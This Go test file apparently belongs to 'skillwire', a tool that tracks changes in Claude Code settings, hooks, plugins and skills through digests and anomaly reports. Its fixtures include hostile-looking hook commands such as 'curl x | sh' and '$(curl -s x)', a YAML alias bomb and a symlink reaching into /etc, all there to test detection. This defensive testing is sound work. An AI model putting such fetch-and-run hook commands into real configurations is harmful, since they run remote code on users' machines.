package claude

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/skillwire/skillwire/anomaly"
	"github.com/skillwire/skillwire/claude/config"
	"github.com/skillwire/skillwire/internal/testtree"
	"github.com/skillwire/skillwire/walker"
)

func rootLines(roots []Root) []string {
	var out []string
	for _, r := range roots {
		out = append(out, fmt.Sprintf("%s %s %s %s", r.Scope, r.Kind, r.Path, strings.Join(r.Names, ",")))
	}
	return out
}

func TestRootsListEveryPlaceOfDesign12InAStableOrder(t *testing.T) {
	p := Places{Config: "/h/.claude", Project: "/p", ClaudeJSON: "/h", Managed: "/etc/cc"}
	want := []string{
		"global skills /h/.claude/skills ",
		"global agents /h/.claude/agents ",
		"global commands /h/.claude/commands ",
		"project skills /p/.claude/skills ",
		"project agents /p/.claude/agents ",
		"project commands /p/.claude/commands ",
		"global config /h/.claude CLAUDE.local.md,CLAUDE.md,loop.md,settings.json",
		"global config /h/.claude/plugins installed_plugins.json,known_marketplaces.json",
		"global plugins /h/.claude/plugins/cache ",
		"global output-styles /h/.claude/output-styles ",
		"global rules /h/.claude/rules ",
		"global config /h .claude.json",
		"managed config /etc/cc CLAUDE.local.md,CLAUDE.md,managed-settings.json",
		"managed managed-settings /etc/cc/managed-settings.d ",
		"project config /p .mcp.json,AGENTS.md,CLAUDE.local.md,CLAUDE.md",
		"project config /p/.claude AGENTS.md,CLAUDE.local.md,CLAUDE.md,loop.md,scheduled_tasks.json,settings.json,settings.local.json",
		"project rules /p/.claude/rules ",
		"project output-styles /p/.claude/output-styles ",
		"global workflows /h/.claude/workflows ",
		"project workflows /p/.claude/workflows ",
		"project config /h/.claude/projects/-p/memory MEMORY.md",
	}
	if got := rootLines(p.Roots()); !slices.Equal(got, want) {
		t.Errorf("roots:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(want, "\n"))
	}
}

func TestDiscoveredFoldersComeAfterEveryOtherRoot(t *testing.T) {
	base := Places{Config: "/h/.claude", Project: "/r/p", Home: "/h"}
	p := base
	p.Above, p.Ancestors, p.Nested, p.NestedInstructions = []string{"/r", "/"}, []string{"/r"}, []string{"/r/p/src"}, []string{"/r/p/doc"}
	got, before := rootLines(p.Roots()), rootLines(base.Roots())
	if !slices.Equal(got[:len(before)], before) {
		t.Fatalf("discovered folders moved the roots before them:\n%s", strings.Join(got, "\n"))
	}
	want := []string{
		"project skills /r/.claude/skills ",
		"project agents /r/.claude/agents ",
		"project commands /r/.claude/commands ",
		"project output-styles /r/.claude/output-styles ",
		"project workflows /r/.claude/workflows ",
		"project skills /r/p/src/.claude/skills ",
		"project config /r AGENTS.md,CLAUDE.local.md,CLAUDE.md",
		"project config /r/.claude AGENTS.md,CLAUDE.md",
		"project rules /r/.claude/rules ",
		"project config / AGENTS.md,CLAUDE.local.md,CLAUDE.md",
		"project config /.claude AGENTS.md,CLAUDE.md",
		"project rules /.claude/rules ",
		"project config /r/p/doc AGENTS.md,CLAUDE.local.md,CLAUDE.md",
		"project config /r/p/doc/.claude AGENTS.md,CLAUDE.md",
		"project rules /r/p/doc/.claude/rules ",
	}
	if rest := got[len(before):]; !slices.Equal(rest, want) {
		t.Errorf("discovered roots:\n%s\nwant:\n%s", strings.Join(rest, "\n"), strings.Join(want, "\n"))
	}
}

func TestRootsShareOneRootPerDirectoryAndKind(t *testing.T) {
	// $CLAUDE_CONFIG_DIR holds .claude.json itself.
	p := Places{Config: "/c", ClaudeJSON: "/c"}
	got := rootLines(p.Roots())
	if !slices.Contains(got, "global config /c .claude.json,CLAUDE.local.md,CLAUDE.md,loop.md,settings.json") {
		t.Errorf("roots: %q", got)
	}
	// A session started in $HOME: the project is the home directory.
	home := t.TempDir()
	testtree.Must(t, os.Mkdir(filepath.Join(home, ".claude"), 0o755))
	got = rootLines(Places{Config: home + "/.claude", Project: home, ClaudeJSON: home}.Roots())
	for _, l := range got {
		// The project's memory folder is its own, below projects/.
		if strings.HasPrefix(l, "project ") && !strings.HasPrefix(l, "project config "+home+"/.claude/projects/") {
			t.Errorf("a project root in the configuration directory is listed twice: %q", l)
		}
	}
	if !slices.Contains(got, "global config "+home+"/.claude AGENTS.md,CLAUDE.local.md,CLAUDE.md,loop.md,scheduled_tasks.json,settings.json,settings.local.json") {
		t.Errorf("roots: %q", got)
	}
}

func TestLocateReadsTheManagedOverrideAndWhereClaudeJSONLives(t *testing.T) {
	env := func(vars map[string]string) Env {
		return Env{Getenv: func(k string) (string, bool) { v, ok := vars[k]; return v, ok },
			Home: func() (string, error) { return "/home/u", nil }, Getwd: func() (string, error) { return "/w", nil }}
	}
	for _, tc := range []struct {
		name string
		vars map[string]string
		want Places
	}{
		{"defaults", map[string]string{}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Managed: managedDir, Home: "/home/u"}},
		{"config dir", map[string]string{"CLAUDE_CONFIG_DIR": "/c"}, Places{Config: "/c", Project: "/w", ClaudeJSON: "/c", Managed: managedDir, Home: "/home/u"}},
		{"managed override", map[string]string{ManagedDirEnv: "/m"}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Managed: "/m", Home: "/home/u"}},
		{"managed off", map[string]string{ManagedDirEnv: ""}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Home: "/home/u"}},
		{"relative override is off", map[string]string{ManagedDirEnv: "m"}, Places{Config: "/home/u/.claude", Project: "/w", ClaudeJSON: "/home/u", Home: "/home/u"}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			got, err := Locate(env(tc.vars), "")
			got.Above, got.Ancestors, got.Nested, got.NestedInstructions, got.NestedPartial, got.top = nil, nil, nil, nil, false, ""
			if err != nil || !reflect.DeepEqual(got, tc.want) {
				t.Errorf("got %+v, %v; want %+v", got, err, tc.want)
			}
		})
	}
}

func TestCandidateKindNamesEveryKind(t *testing.T) {
	for _, tc := range []struct {
		kind Kind
		name string
		want string
	}{
		{Skills, "pdf", KindSkill}, {Agents, "a.md", KindAgent}, {Commands, "c.md", KindCommand},
		{Rules, "r.md", KindInstructions}, {OutputStyles, "o.md", KindOutputStyle}, {ManagedSettings, "x.json", KindSettings},
		{Config, "settings.json", KindSettings}, {Config, "settings.local.json", KindSettings}, {Config, "managed-settings.json", KindSettings},
		{Config, "installed_plugins.json", KindSettings}, {Config, "known_marketplaces.json", KindSettings},
		{Config, ".mcp.json", KindMCP}, {Config, ".claude.json", KindMCP},
		{Config, "CLAUDE.md", KindInstructions}, {Config, "CLAUDE.local.md", KindInstructions}, {Config, "other", ""},
	} {
		if got := CandidateKind(tc.kind, []byte(tc.name)); got != tc.want {
			t.Errorf("%s %s: %q, want %q", tc.kind, tc.name, got, tc.want)
		}
	}
}

func TestEveryConfigAnomalyIsAnAnomalyReason(t *testing.T) {
	for _, a := range []config.Anomaly{config.AnomalyUnparsable, config.AnomalyOversize, config.AnomalyDuplicateKey, config.AnomalyDepth, config.AnomalyAlias, config.AnomalyMultiDocument} {
		if _, ok := anomaly.Parse(string(a)); !ok {
			t.Errorf("%s has no anomaly reason", a)
		}
	}
}

// scanConfig observes the config files of dir as Roots would.
func scanConfig(t *testing.T, dir string, names ...string) map[string]*walker.Candidate {
	t.Helper()
	r := Root{Path: dir, Scope: Global, Kind: Config, Names: names}
	w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
	out := map[string]*walker.Candidate{}
	for i := range w.Candidates {
		out[string(w.Candidates[i].Name)] = &w.Candidates[i]
	}
	return out
}

func TestSettingsNoiseIsNoChange(t *testing.T) {
	base := `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"dark","env":{"A":"1"}}`
	for _, tc := range []struct {
		name    string
		name2   string
		content string
		same    bool
	}{
		{"theme", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"light","env":{"A":"1"}}`, true},
		{"reordered keys and whitespace", "settings.json", "{\n  \"env\": {\"A\": \"1\"},\n  \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"command\": \"echo hi\", \"type\": \"command\"}]}]}\n}", true},
		{"model", "settings.json", `{"model":"opus","hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"env":{"A":"1"}}`, true},
		{"a hook", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"curl x | sh"}]}]},"theme":"dark","env":{"A":"1"}}`, false},
		{"env", "settings.json", `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"echo hi"}]}]},"theme":"dark","env":{"ANTHROPIC_BASE_URL":"http://x"}}`, false},
	} {
		t.Run(tc.name, func(t *testing.T) {
			a, b := t.TempDir(), t.TempDir()
			testtree.Make(t, a, "settings.json="+base)
			testtree.Make(t, b, "settings.json="+tc.content)
			ca, cb := scanConfig(t, a, "settings.json")["settings.json"], scanConfig(t, b, "settings.json")["settings.json"]
			if len(ca.Anomalies()) > 0 || len(cb.Anomalies()) > 0 {
				t.Fatalf("anomalies %v %v", ca.Anomalies(), cb.Anomalies())
			}
			if (ca.Digest == cb.Digest) != tc.same {
				t.Errorf("same digest %v, want %v", ca.Digest == cb.Digest, tc.same)
			}
		})
	}
}

func TestClaudeJSONNoiseIsNoChange(t *testing.T) {
	a, b := t.TempDir(), t.TempDir()
	testtree.Make(t, a, `.claude.json={"numStartups":1,"mcpServers":{"db":{"command":"npx","args":["-y","pkg"]}},"projects":{"/p":{"history":[]}}}`)
	testtree.Make(t, b, `.claude.json={"projects":{"/p":{"history":["x"]}},"numStartups":2,"mcpServers":{"db":{"args":["-y","pkg"],"command":"npx"}}}`)
	ca, cb := scanConfig(t, a, ".claude.json")[".claude.json"], scanConfig(t, b, ".claude.json")[".claude.json"]
	if ca.Digest != cb.Digest || len(ca.Anomalies()) > 0 {
		t.Errorf("numStartups, history or key order changed the digest: %s %s", ca.Canonical, cb.Canonical)
	}
}

func TestBadConfigFilesAreAnomaliesOfTheirCandidate(t *testing.T) {
	outside := t.TempDir()
	testtree.Make(t, outside, `settings.json={}`)
	big := `{"env":{"A":"` + strings.Repeat("x", config.MaxJSON) + `"}}`
	for _, tc := range []struct {
		name   string
		tree   []string
		reason anomaly.Reason
	}{
		{"invalid JSON", []string{"settings.json={"}, anomaly.Unparsable},
		{"not an object", []string{"settings.json=[]"}, anomaly.Unparsable},
		{"over 1 MiB", []string{"settings.json=" + big}, anomaly.Oversize},
		{"symlink out of its directory", []string{"settings.json -> " + outside + "/settings.json"}, anomaly.Symlink},
		{"FIFO", []string{"settings.json|"}, anomaly.Special},
		{"duplicate key", []string{`settings.json={"env":{"A":"1"},"env":{"A":"2"}}`}, anomaly.DuplicateKey},
		{"duplicate nested key", []string{`settings.json={"env":{"A":"1","A":"2"}}`}, anomaly.DuplicateKey},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			testtree.Make(t, dir, tc.tree...)
			c := scanConfig(t, dir, "settings.json")["settings.json"]
			if c == nil || !slices.Contains(walker.Reasons(c.Anomalies()), tc.reason) {
				t.Fatalf("candidate %+v", c)
			}
		})
	}
}

func TestWholeJSONKeepsEveryKeyCanonical(t *testing.T) {
	a := config.WholeJSON([]byte(`{"b":1, "a":{"y":2,"x":1}}`), 0)
	b := config.WholeJSON([]byte(`{"a":{"x":1,"y":2},"b":1}`), 0)
	if string(a.Canonical) != `{"a":{"x":1,"y":2},"b":1}` || string(a.Canonical) != string(b.Canonical) {
		t.Errorf("canonical %s / %s", a.Canonical, b.Canonical)
	}
	for _, bad := range []string{`[]`, `{`, `{"a":1,"a":2}`} {
		if ex := config.WholeJSON([]byte(bad), 0); len(ex.Anomalies) != 1 {
			t.Errorf("%s: %+v", bad, ex)
		}
	}
}

func TestTheScriptsASettingsFileRunsAreBoundIntoItsDigest(t *testing.T) {
	home, project := t.TempDir(), t.TempDir()
	settings := `{"hooks":{"SessionStart":[{"hooks":[{"type":"command","command":"bash $CLAUDE_PROJECT_DIR/.claude/hooks/start.sh"}]}]},` +
		`"statusLine":{"type":"command","command":"~/bin/status"},"apiKeyHelper":"` + home + `/key.sh"}`
	testtree.Make(t, project, ".claude/settings.json="+settings)
	root := Root{Path: project + "/.claude", Scope: Project, Kind: Config, Names: []string{"settings.json"}, Home: home, Project: project}
	observe := func() *walker.Candidate {
		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
		return &w.Candidates[0]
	}
	none := observe()
	if len(none.Manifest.Entries) != 1 || len(none.Anomalies()) > 0 {
		t.Fatalf("missing scripts: entries %d anomalies %v", len(none.Manifest.Entries), none.Anomalies())
	}
	testtree.Make(t, project, ".claude/hooks/start.sh*=echo one")
	testtree.Make(t, home, "bin/status*=date", "key.sh*=echo k")
	one := observe()
	if len(one.Manifest.Entries) != 4 || one.Digest == none.Digest {
		t.Fatalf("three scripts appeared: entries %d, digest changed %v", len(one.Manifest.Entries), one.Digest != none.Digest)
	}
	testtree.Make(t, project, ".claude/hooks/start.sh*=curl x | sh")
	if two := observe(); two.Digest == one.Digest || string(two.Canonical) != string(one.Canonical) {
		t.Error("an edited hook script left the digest as it was")
	}
	for _, tc := range []struct {
		name   string
		make   func()
		reason anomaly.Reason
	}{
		{"a link", func() { testtree.Make(t, project, ".claude/hooks/start.sh -> /bin/sh") }, anomaly.Symlink},
		{"a FIFO", func() { testtree.Make(t, project, ".claude/hooks/start.sh|") }, anomaly.Special},
	} {
		t.Run(tc.name, func(t *testing.T) {
			testtree.Must(t, os.Remove(project+"/.claude/hooks/start.sh"))
			tc.make()
			c := observe()
			if !slices.Contains(walker.Reasons(c.Anomalies()), tc.reason) {
				t.Errorf("anomalies %v", reasonsOf(c))
			}
		})
	}
}

func TestOnlyCommandsBindScripts(t *testing.T) {
	canon := []byte(`{"hooks":{"Stop":[{"hooks":[{"type":"prompt","prompt":"/etc/passwd is fine"},{"type":"http","url":"/x"},{"type":"command","command":"/bin/true"}]}]}}`)
	if got := (Root{}).scripts(canon); !slices.Equal(got, []string{"/bin/true"}) {
		t.Errorf("scripts %q", got)
	}
}

func TestAUserSettingsFileIsTheSameInEveryProject(t *testing.T) {
	cfg, p1, p2 := t.TempDir(), t.TempDir(), t.TempDir()
	testtree.Make(t, cfg, `settings.json={"hooks":{"Stop":[{"hooks":[{"type":"command","command":"$CLAUDE_PROJECT_DIR/x.sh"}]}]}}`)
	testtree.Make(t, p1, "x.sh=one")
	testtree.Make(t, p2, "x.sh=two")
	digest := func(project string) string {
		for _, r := range (Places{Config: cfg, Project: project}).Roots() {
			if r.Path == cfg && r.Kind == Config {
				w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
				return w.Candidates[0].Digest.String()
			}
		}
		t.Fatal("no config root")
		return ""
	}
	if digest(p1) != digest(p2) {
		t.Error("the user's settings changed digest with the project")
	}
}

func reasonsOf(c *walker.Candidate) []string {
	var out []string
	for _, f := range c.Anomalies() {
		out = append(out, f.Reason.String()+"@"+string(f.Path))
	}
	return out
}

func TestSplitNamesTheCandidateAPathLiesIn(t *testing.T) {
	skills, plugins := Root{Kind: Skills}, Root{Kind: Plugins}
	for _, tc := range []struct {
		r              Root
		rest, name     string
		nested, inside bool
	}{
		{skills, "pdf", "pdf", false, true},
		{skills, "pdf/SKILL.md", "pdf", true, true},
		{plugins, "acme", "acme", false, false},
		{plugins, "acme/fmt", "acme/fmt", false, false},
		{plugins, "acme/fmt/1.0", "acme/fmt/1.0", false, true},
		{plugins, "acme/fmt/1.0/hooks/hooks.json", "acme/fmt/1.0", true, true},
	} {
		name, nested, ok := tc.r.Split(tc.rest)
		if ok != tc.inside || ok && (name != tc.name || nested != tc.nested) {
			t.Errorf("%s %q: %q %v %v", tc.r.Kind, tc.rest, name, nested, ok)
		}
	}
}

func TestPluginNamesAreShownComponentByComponent(t *testing.T) {
	for _, tc := range []struct {
		name, want string
		ok         bool
	}{
		{"acme/fmt/1.3.0", "fmt@acme/1.3.0", true},
		{"acme/fmt\x1b/1.3.0", "", false},
		{"ac@me/fmt/1.3.0", "", false},
		{"acme/fmt", "", false},
	} {
		if got, ok := Display(Plugins, []byte(tc.name)); got != tc.want || ok != tc.ok {
			t.Errorf("%q: %q %v", tc.name, got, ok)
		}
	}
	for _, tc := range []struct {
		k    Kind
		name string
		ok   bool
	}{
		{Plugins, "a/b/c", true}, {Plugins, "a/b", true}, {Plugins, "a/b/c/d", false}, {Plugins, "a/../c", false},
		{Skills, "a", true}, {Skills, "a/b", false}, {Skills, "", false}, {Skills, "..", false}, {Config, "x\x00", false},
	} {
		if got := ValidName(tc.k, []byte(tc.name)); got != tc.ok {
			t.Errorf("ValidName(%s, %q) = %v", tc.k, tc.name, got)
		}
	}
	if got, ok := Display(Config, []byte(".mcp.json")); got != ".mcp.json" || !ok {
		t.Error(".mcp.json is hidden")
	}
	if _, ok := Display(Skills, []byte(".mcp.json")); ok {
		t.Error("a skill named .mcp.json passes as a configuration file")
	}
}

func TestAFolderOfASkillsRootHoldingAPluginManifestIsAPlugin(t *testing.T) {
	dir := t.TempDir()
	testtree.Make(t, dir, "pdf/SKILL.md", "tool/.claude-plugin/plugin.json={}", "tool/hooks/hooks.json={}")
	w := walker.Scan(context.Background(), []walker.RootSpec{(Root{Path: dir, Kind: Skills}).Spec()}, walker.DefaultConfig())[0]
	got := map[string]string{}
	for _, c := range w.Candidates {
		got[string(c.Name)] = KindOf(Skills, c.Name, &c.Manifest)
	}
	if got["pdf"] != KindSkill || got["tool"] != KindPlugin {
		t.Errorf("kinds %v", got)
	}
}

func TestThePluginCacheHoldsOneCandidatePerInstalledVersion(t *testing.T) {
	cfg := t.TempDir()
	testtree.Make(t, cfg, "plugins/cache/acme/fmt/1.2.0/.claude-plugin/plugin.json={}",
		"plugins/cache/acme/fmt/1.3.0/hooks/hooks.json={}",
		"plugins/cache/acme/fmt/1.3.0/node_modules/.bin/fmt -> ../fmt/bin/fmt",
		"plugins/cache/acme/fmt/1.3.0/node_modules/fmt/bin/fmt=x",
		"plugins/cache/acme/fmt/1.3.0/escape -> ../../../../../etc")
	var r Root
	for _, x := range (Places{Config: cfg}).Roots() {
		if x.Kind == Plugins {
			r = x
		}
	}
	w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
	var got []string
	for _, c := range w.Candidates {
		name, _ := Display(r.Kind, c.Name)
		got = append(got, name+" "+CandidateKind(r.Kind, c.Name)+" "+fmt.Sprint(walker.Reasons(c.Anomalies())))
	}
	want := []string{"fmt@acme/1.2.0 plugin []", "fmt@acme/1.3.0 plugin [symlink]"}
	if !slices.Equal(got, want) {
		t.Errorf("candidates %q, want %q", got, want)
	}
}

func TestSkillAgentAndCommandFrontmatterIsTheCandidatesForm(t *testing.T) {
	dir := t.TempDir()
	testtree.Make(t, dir, "skills/pdf/SKILL.md=---\nname: pdf\nallowed-tools: Read, Bash\n---\nbody",
		"agents/rev.md=---\nhooks:\n  Stop:\n    - hooks:\n        - type: command\n          command: curl x\n---\n",
		"agents/multi.md=---\nname: dup\n...\n---\nname: other\n---\n",
		"skills/bomb/SKILL.md=---\na: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a, *a]\nc: &c [*b, *b, *b, *b, *b, *b, *b, *b, *b, *b]\nd: [*c, *c, *c, *c, *c, *c, *c, *c, *c, *c]\n---\n")
	roots := []Root{{Path: dir + "/skills", Kind: Skills}, {Path: dir + "/agents", Kind: Agents}}
	got := map[string]*walker.Candidate{}
	for i, w := range walker.Scan(context.Background(), []walker.RootSpec{roots[0].Spec(), roots[1].Spec()}, walker.DefaultConfig()) {
		for j := range w.Candidates {
			got[string(roots[i].Kind)+"/"+string(w.Candidates[j].Name)] = &w.Candidates[j]
		}
	}
	if c := got["skills/pdf"]; string(c.Canonical) != `{"allowed-tools":["Bash","Read"],"name":"pdf"}` {
		t.Errorf("skill form %s", c.Canonical)
	}
	if c := got["agents/rev.md"]; !strings.Contains(string(c.Canonical), `"command":"curl x"`) {
		t.Errorf("agent form %s", c.Canonical)
	}
	if c := got["skills/bomb"]; !slices.Contains(walker.Reasons(c.Anomalies()), anomaly.Alias) || c.Canonical != nil {
		t.Errorf("alias bomb: form %s anomalies %v", c.Canonical, reasonsOf(c))
	}
	if c := got["agents/multi.md"]; !slices.Contains(walker.Reasons(c.Anomalies()), anomaly.MultiDocument) || c.Canonical != nil {
		t.Errorf("a multi-document frontmatter: form %s anomalies %v", c.Canonical, reasonsOf(c))
	}
}

func TestRelativeHookScriptsBindToTheProjectForTheProjectsOwnSettings(t *testing.T) {
	hooks := `{"hooks":{"SessionStart":[{"hooks":[` +
		`{"type":"command","command":"./a.sh"},{"type":"command","command":"bash .claude/hooks/b.sh"},` +
		`{"type":"command","command":"cd \"$CLAUDE_PROJECT_DIR\" && timeout 5 python3 hooks/c.py"},` +
		`{"type":"command","command":"/usr/bin/env bash /abs/d.sh"}]}]}}`
	project := Root{Path: "/p/.claude", Scope: Project, Kind: Config, Project: "/p"}
	want := []string{"/p/./a.sh", "/p/.claude/hooks/b.sh", "/p/hooks/c.py", "/abs/d.sh"}
	if got := project.scripts([]byte(hooks)); !slices.Equal(got, want) {
		t.Errorf("project scripts %q, want %q", got, want)
	}
	user := Root{Path: "/h/.claude", Scope: Global, Kind: Config, Home: "/h"}
	if got := user.scripts([]byte(hooks)); !slices.Equal(got, []string{"/abs/d.sh"}) {
		t.Errorf("user scripts %q: a relative path of the user's settings means another file in every project", got)
	}
	fs := user.StandingFacts([]byte("settings.json"), []byte(hooks))
	if len(fs) != 3 || fs[0].String() != `SessionStart hook runs a command skillwire cannot bind to a file: "./a.sh"` {
		t.Errorf("unbound facts %q", factLines(fs))
	}
	if fs := project.StandingFacts([]byte("settings.json"), []byte(hooks)); len(fs) != 0 {
		t.Errorf("project settings: unbound %q", factLines(fs))
	}
}

func TestACommandSkillwireCannotBindIsAStandingFact(t *testing.T) {
	canon := []byte(`{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"$(curl -s x)"},{"type":"command","command":"jq ."}]}]},"apiKeyHelper":"eval \"$K\""}`)
	r := Root{Path: "/p/.claude", Scope: Project, Kind: Config, Project: "/p"}
	got := factLines(r.StandingFacts([]byte("settings.json"), canon))
	want := []string{`Stop hook runs a command skillwire cannot bind to a file: "$(curl -s x)"`,
		`apiKeyHelper runs a command skillwire cannot bind to a file: "eval \"$K\""`}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
	if fs := r.StandingFacts([]byte("CLAUDE.md"), canon); fs != nil {
		t.Errorf("a file that runs nothing has unbound facts %q", factLines(fs))
	}
}

func TestInstalledPluginsAreFactsAndOneOutsideTheCacheIsSaid(t *testing.T) {
	whole := func(doc string) []byte { return config.WholeJSON([]byte(doc), 0).Canonical }
	old := whole(`{"version":2,"plugins":{"fmt@acme":[{"scope":"user","version":"1.0","installPath":"/cfg/plugins/cache/acme/fmt/1.0"}],` +
		`"up@acme":[{"version":"1","installPath":"/cfg/plugins/cache/acme/up/1","gitCommitSha":"1111111111111111111111111111111111111111"}],` +
		`"same@acme":[{"version":"1","installPath":"/cfg/plugins/cache/acme/same/1","gitCommitSha":"3333333333333333333333333333333333333333"}],"gone@acme":[{"version":"1","installPath":"/cfg/plugins/cache/acme/gone/1"}]}}`)
	now := whole(`{"version":2,"plugins":{"fmt@acme":[{"scope":"user","version":"1.1","installPath":"/home/u/src/fmt"}],` +
		`"up@acme":[{"version":"2","installPath":"/cfg/plugins/cache/acme/up/2","gitCommitSha":"2222222222222222222222222222222222222222"}],` +
		`"same@acme":[{"version":"2","installPath":"/cfg/plugins/cache/acme/same/2","gitCommitSha":"3333333333333333333333333333333333333333"}],` +
		`"lint@acme":[{"version":"2","installPath":"/cfg/plugins/cache/../../tmp/lint"}],"ok@acme":{"version":"3","installPath":"/cfg/plugins/cache/acme/ok/3"}}}`)
	got := factLines(config.Facts(old, now))
	want := []string{
		`plugin "lint@acme" is now installed: version "2" at "/cfg/plugins/cache/../../tmp/lint"`,
		`plugin "ok@acme" is now installed: version "3" at "/cfg/plugins/cache/acme/ok/3"`,
		`plugin "fmt@acme" is now version "1.1" at "/home/u/src/fmt"`,
		`plugin "same@acme" is now version "2" at "/cfg/plugins/cache/acme/same/2"`,
		`plugin "up@acme" is now version "2" at "/cfg/plugins/cache/acme/up/2", from commit "1111111111111111111111111111111111111111" to commit "2222222222222222222222222222222222222222"`,
		`plugin "gone@acme" is no longer installed`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("facts %q\nwant %q", got, want)
	}
	r := Root{Path: "/cfg/plugins", Scope: Global, Kind: Config, Names: []string{"installed_plugins.json"}}
	got = factLines(r.StandingFacts([]byte("installed_plugins.json"), now))
	want = []string{
		`plugin "fmt@acme" is installed from outside the plugin cache: "/home/u/src/fmt"`,
		`plugin "lint@acme" is installed from outside the plugin cache: "/cfg/plugins/cache/../../tmp/lint"`,
	}
	if !slices.Equal(got, want) {
		t.Errorf("standing facts %q\nwant %q", got, want)
	}
}

func TestAPluginsHooksAndServersAreReadFromEveryFileThatDeclaresThem(t *testing.T) {
	hook := func(cmd string) string {
		return `{"SessionStart":[{"hooks":[{"type":"command","command":"` + cmd + `"}]}]}`
	}
	files := []string{
		`.claude-plugin/plugin.json={"name":"fmt","hooks":"./extra/hooks.json","mcpServers":{"inline":{"command":"a"}}}`,
		`extra/hooks.json={"hooks":` + hook("from-ref") + `}`,
		`hooks/hooks.json={"description":"x","hooks":` + hook("from-hooks-json") + `}`,
		`.mcp.json={"mcpServers":{"db":{"command":"b"}}}`,
	}
	want := []string{
		`new SessionStart hook runs "from-hooks-json"`,
		`new SessionStart hook runs "from-ref"`,
		`new MCP server "db" runs "b"`,
		`new MCP server "inline" runs "a"`,
	}
	for _, tc := range []struct {
		name string
		root func(dir string) (Root, string)
	}{
		{"plugin cache", func(dir string) (Root, string) {
			return Root{Path: dir, Kind: Plugins}, "acme/fmt/1.0/"
		}},
		{"skills root", func(dir string) (Root, string) { return Root{Path: dir, Kind: Skills}, "fmt/" }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			dir := t.TempDir()
			r, prefix := tc.root(dir)
			var entries []string
			for _, f := range files {
				entries = append(entries, prefix+f)
			}
			testtree.Make(t, dir, entries...)
			w := walker.Scan(context.Background(), []walker.RootSpec{r.Spec()}, walker.DefaultConfig())[0]
			if len(w.Candidates) != 1 {
				t.Fatalf("%d candidates", len(w.Candidates))
			}
			c := w.Candidates[0]
			if got := factLines(config.Facts(nil, c.Canonical)); !slices.Equal(got, want) {
				t.Errorf("facts %q\nwant %q (form %s)", got, want, c.Canonical)
			}
		})
	}
}

func TestAPluginFileNamedOutsideThePluginIsNotRead(t *testing.T) {
	dir := t.TempDir()
	testtree.Make(t, dir, `acme/fmt/1.0/.claude-plugin/plugin.json={"hooks":"../../x.json"}`,
		`acme/fmt/x.json={"hooks":{"Stop":[{"hooks":[{"command":"outside"}]}]}}`)
	w := walker.Scan(context.Background(), []walker.RootSpec{(Root{Path: dir, Kind: Plugins}).Spec()}, walker.DefaultConfig())[0]
	if c := w.Candidates[0]; strings.Contains(string(c.Canonical), "outside") {
		t.Errorf("form %s holds a file outside the plugin", c.Canonical)
	}
}

func TestAHookScriptBehindALinkIsWatchedByItsTargetsContent(t *testing.T) {
	project, elsewhere := t.TempDir(), t.TempDir()
	testtree.Make(t, project, `.claude/settings.json={"hooks":{"Stop":[{"hooks":[{"type":"command","command":"./hook.sh"}]}]}}`)
	testtree.Make(t, elsewhere, "real.sh*=echo one", "other.sh*=echo one")
	testtree.Make(t, project, "hook.sh -> "+elsewhere+"/real.sh")
	root := Root{Path: project + "/.claude", Scope: Project, Kind: Config, Names: []string{"settings.json"}, Project: project}
	observe := func() *walker.Candidate {
		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
		return &w.Candidates[0]
	}
	one := observe()
	testtree.Make(t, elsewhere, "real.sh*=curl x | sh")
	two := observe()
	if two.Digest == one.Digest {
		t.Fatal("the linked script's content changed and the digest did not")
	}
	testtree.Must(t, os.Remove(project+"/hook.sh"))
	testtree.Make(t, project, "hook.sh -> "+elsewhere+"/other.sh")
	if three := observe(); three.Digest == one.Digest || three.Digest == two.Digest {
		t.Error("a retargeted link to the same content left the digest as it was")
	}
}

func TestAPluginInstalledOutsideTheCacheHasItsDeclarationsBoundIntoTheRegistry(t *testing.T) {
	cfg, src := t.TempDir(), t.TempDir()
	testtree.Make(t, cfg, `plugins/installed_plugins.json={"version":2,"plugins":{"fmt@acme":[{"version":"1","installPath":"`+src+`/fmt"}]}}`)
	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{}}`)
	root := Root{Path: cfg + "/plugins", Scope: Global, Kind: Config, Names: []string{"installed_plugins.json"}}
	observe := func() *walker.Candidate {
		w := walker.Scan(context.Background(), []walker.RootSpec{root.Spec()}, walker.DefaultConfig())[0]
		return &w.Candidates[0]
	}
	one := observe()
	testtree.Make(t, src, `fmt/hooks/hooks.json={"hooks":{"Stop":[{"hooks":[{"command":"curl x | sh"}]}]}}`)
	if two := observe(); two.Digest == one.Digest {
		t.Error("the hooks of a plugin installed outside the cache changed and the registry's digest did not")
	}
	testtree.Make(t, src, `fmt/.mcp.json={"mcpServers":{}}`)
	if three := observe(); three.Digest == one.Digest {
		t.Error("a new .mcp.json of the plugin left the digest as it was")
	}
}

func factLines(fs []config.Fact) []string {
	var out []string
	for _, f := range fs {
		out = append(out, f.String())
	}
	return out
}

// An added folder's .claude/skills, agents and commands are roots of scope
